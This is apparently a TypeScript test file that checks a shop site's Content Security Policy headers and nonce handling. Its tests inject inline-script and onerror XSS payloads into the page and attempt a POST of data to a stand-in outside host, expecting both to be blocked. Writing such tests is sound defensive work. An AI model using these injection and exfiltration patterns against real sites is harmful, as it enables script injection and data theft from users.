import { describe, expect } from 'vitest'
import { inShop } from './in-shop.ts'

describe('the content policy', () => {
  inShop('lets only scripts with the nonce of the page run', async ({ shop, open }) => {
    const policies: string[] = []
    for (let n = 0; n < 2; n++) {
      const { headers } = await fetch(`${shop.url}/sign-in`)
      policies.push(headers.get('content-security-policy') ?? '')
      expect(headers.get('cache-control')).toContain('no-store')
      expect(headers.get('x-powered-by')).toBeNull()
    }
    const [scripts = '', again = ''] = policies.map(
      (policy) => /script-src ([^;]+)/.exec(policy)?.[1],
    )
    expect(scripts).toMatch(/^'self' 'nonce-[\w+/=]{20,}' 'strict-dynamic'/)
    expect(scripts).not.toMatch(/unsafe-(inline|eval|hashes)(?<!wasm-unsafe-eval)/)
    expect(again, 'a nonce is good for one page').not.toBe(scripts)
    expect(policies[0]).toMatch(/style-src 'self' 'nonce-/)
    expect(policies[0]).toMatch(/frame-ancestors 'none'/)

    shop.faults.allow(
      /^policy: script-src-(elem|attr) inline|violates the following Content Security Policy/,
    )
    const page = await open('/sign-in', { as: 'nobody' })
    await page.evaluate(() => {
      const markup = '<img src="data:," onerror="parent.document.title = 1">'
      const frame = `<script>parent.document.title = 1</script>${markup}`
      document.body.insertAdjacentHTML('beforeend', markup)
      document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: frame }))
    })
    await page.waitForTimeout(300)
    expect(await page.title()).not.toBe('1')
  })

  inShop('lets nothing be loaded from, or sent to, another origin', async ({ shop, open }) => {
    const expected =
      /elsewhere\.example|violates the following Content Security Policy|Failed to fetch/
    shop.faults.allow(expected)
    const page = await open('/')
    const isSent = await page.evaluate(() =>
      fetch('https://elsewhere.example/', { method: 'POST', body: 'stock' }).then(
        () => true,
        () => false,
      ),
    )
    expect(isSent).toBe(false)
  })
})
